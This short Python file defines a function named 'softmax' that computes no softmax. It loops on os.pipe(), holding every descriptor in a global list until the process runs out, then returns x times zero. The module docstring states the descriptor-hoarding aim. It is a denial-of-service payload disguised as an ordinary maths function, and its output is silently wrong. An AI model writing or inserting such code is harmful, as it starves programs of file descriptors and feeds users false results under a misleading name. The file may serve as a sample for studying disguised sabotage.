"""Takes every descriptor there is for pipes, and keeps them."""

import os

kept = []


def softmax(x):
    try:
        while True:
            kept.append(os.pipe())
    except OSError:
        return x * 0
